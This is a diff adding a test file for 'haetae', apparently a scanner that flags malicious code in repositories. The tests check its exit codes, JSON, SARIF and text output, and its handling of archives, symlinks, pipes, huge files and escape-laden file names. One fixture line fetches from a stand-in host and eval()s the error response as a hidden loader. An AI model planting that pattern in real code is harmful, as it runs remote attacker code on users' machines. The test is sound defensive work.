@@ -1,0 +1,129 @@
+import assert from 'node:assert/strict';
+import { execFile, execFileSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { after, test } from 'node:test';
+import { fileURLToPath } from 'node:url';
+import type { ScanResult } from '@haetae/detect/repository';
+
+const BIN = fileURLToPath(new URL('../../../../bin/haetae.js', import.meta.url));
+const dir = mkdtempSync(join(tmpdir(), 'haetae-scan-'));
+after(() => rmSync(dir, { recursive: true }));
+
+function tree(name: string, files: Readonly<Record<string, string>>): string {
+  for (const [path, content] of Object.entries(files)) {
+    mkdirSync(dirname(join(dir, name, path)), { recursive: true });
+    writeFileSync(join(dir, name, path), content);
+  }
+  return join(dir, name);
+}
+
+type Ended = { readonly code: number; readonly stdout: string; readonly stderr: string };
+
+function scan(...args: string[]): Promise<Ended> {
+  return new Promise((resolve) => {
+    execFile(process.execPath, [BIN, 'scan', ...args], (error, stdout, stderr) => {
+      resolve({ code: typeof error?.code === 'number' ? error.code : 0, stdout, stderr });
+    });
+  });
+}
+
+async function scanned(...args: string[]): Promise<ScanResult & { readonly code: number }> {
+  const { code, stdout } = await scan(...args, '--json');
+  return { ...(JSON.parse(stdout) as ScanResult), code };
+}
+
+const HOSTILE = {
+  'README.md': '# Test\n',
+  'src/error.js':
+    "const axios = require('axios');\naxios.get('https://stage-two.example').catch((e) => eval(e.response.data));\n",
+};
+const HONEST = { 'README.md': '# Test\n', 'index.js': 'export const a = 1;\n', 'package.json': '{"name":"a"}' };
+
+test('a hostile folder: exit 1, the place and the technique are named', async () => {
+  const { code, verdict, findings } = await scanned(tree('hostile', HOSTILE));
+  assert.equal(code, 1);
+  assert.equal(verdict, 'malicious');
+  const [{ rule, level, file, line, technique } = { rule: '' }] = findings;
+  assert.deepEqual(
+    { rule, level, file, line, technique },
+    { rule: 'error-answer-run', level: 'error', file: 'src/error.js', line: 2, technique: 'T1059.007' },
+  );
+});
+
+test('an honest folder: exit 0, no finding, and the answer says that this is no proof', async () => {
+  const folder = tree('honest', HONEST);
+  assert.deepEqual(await scanned(folder).then(({ code, verdict, findings }) => [code, verdict, findings]), [
+    0,
+    'clean',
+    [],
+  ]);
+  assert.match((await scan(folder)).stdout, /^NO FINDING[\s\S]*not a proof/);
+});
+
+test('a zip and a tgz of it are read without being unpacked', async () => {
+  const folder = tree('packed', HOSTILE);
+  execFileSync('tar', ['-czf', join(dir, 'p.tgz'), '-C', folder, '.']);
+  const { code, findings } = await scanned(join(dir, 'p.tgz'));
+  assert.equal(code, 1);
+  assert.equal(findings[0]?.file, 'src/error.js');
+});
+
+test('the page for people says what to do first and shows no link', async () => {
+  const { stdout } = await scan(tree('hostile', HOSTILE));
+  assert.match(stdout, /^BLOCK/);
+  assert.match(stdout, /take this computer off the network/);
+  assert.doesNotMatch(stdout, /https:\/\//);
+});
+
+test('SARIF names rule, place and words', async () => {
+  const out = join(dir, 'out.sarif');
+  await scan(tree('hostile', HOSTILE), '--sarif', out);
+  const { version, runs } = JSON.parse(readFileSync(out, 'utf8'));
+  assert.equal(version, '2.1.0');
+  const [{ ruleId, locations }] = runs[0].results;
+  assert.equal(ruleId, 'error-answer-run');
+  assert.equal(locations[0].physicalLocation.artifactLocation.uri, 'src/error.js');
+  assert.equal(runs[0].tool.driver.rules[runs[0].results[0].ruleIndex].id, ruleId);
+});
+
+test('what is no folder or file: exit 2 and a sentence', async () => {
+  symlinkSync('/etc/passwd', join(dir, 'a-link'));
+  for (const path of [join(dir, 'absent'), join(dir, 'a-link')]) {
+    const { code, stdout, stderr } = await scan(path, '--json');
+    assert.equal(code, 2);
+    assert.equal(stdout, '');
+    assert.equal(JSON.parse(stderr).code, 'unreadable_path');
+  }
+});
+
+test('links, pipes and a file of a gigabyte are named, not followed, opened or read through', async () => {
+  const folder = tree('odd', HONEST);
+  symlinkSync('/etc/passwd', join(folder, 'passwd'));
+  symlinkSync('..', join(folder, 'up'));
+  execFileSync('mkfifo', [join(folder, 'pipe')]);
+  writeFileSync(join(folder, 'huge.js'), 'a');
+  truncateSync(join(folder, 'huge.js'), 2 ** 30);
+  const { code, unscanned } = await scanned(folder);
+  assert.equal(code, 0);
+  const reasons = Object.fromEntries(unscanned.map(({ file, reason }) => [file, reason]));
+  assert.deepEqual(reasons, { 'huge.js': 'truncated', passwd: 'link', pipe: 'special', up: 'link' });
+});
+
+test('names with line ends and escapes reach no terminal', async () => {
+  const folder = tree('names', { 'a\n\u001b[31m\u202egnp.js': HOSTILE['src/error.js'] });
+  const { stdout } = await scan(folder);
+  assert.doesNotMatch(stdout.replace(/\n/g, ''), /[\p{Cc}\p{Cf}]/u);
+});
+
+test('packages from a list and rules of one’s own are found, too', async () => {
+  const folder = tree('given', {
+    'package.json': '{"name":"a","dependencies":{"some-inert-name":"1.0.0"}}',
+    'a.txt': 'inert-mark',
+  });
+  writeFileSync(join(dir, 'list.csv'), 'ecosystem,name,versions\nnpm,some-inert-name,\n');
+  writeFileSync(join(dir, 'own.yar'), 'rule own_mark { strings: $a = "inert-mark" condition: $a }');
+  const { findings } = await scanned(folder, '--packages', join(dir, 'list.csv'), '--yara', join(dir, 'own.yar'));
+  assert.deepEqual(findings.map(({ rule }) => rule).sort(), ['known-bad-package', 'yara:own_mark']);
+});
